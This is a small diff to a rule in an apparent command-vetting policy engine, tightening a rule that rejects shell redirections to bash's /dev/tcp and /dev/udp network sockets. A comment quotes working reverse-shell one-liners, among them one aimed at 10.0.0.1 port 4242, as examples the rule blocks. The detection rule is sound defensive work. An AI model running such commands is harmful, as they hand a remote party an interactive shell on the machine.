@@ -34,7 +34,8 @@
 ;; Stops `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, `sh -i 5<> /dev/tcp/h/p`,
 ;; `exec 3<>/dev/udp/h/p`: bash's network redirections attach the shell to a socket.
 (defrule shell-reverse-shell-dev-tcp
-  (shell-redirect (proposal ?id) (target ?t) (path ?p&:(or (revshell-dev-net-p ?t) (revshell-dev-net-p ?p))))
+  (shell-redirect (proposal ?id) (target ?t) (path ?p&:(or (str-prefix "/dev/" ?t) (str-prefix "/dev/" ?p))
+                         &:(or (revshell-dev-net-p ?t) (revshell-dev-net-p ?p))))
   =>
   (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp)
                     (reason (str-cat "redirect to a network socket: " ?t)))))
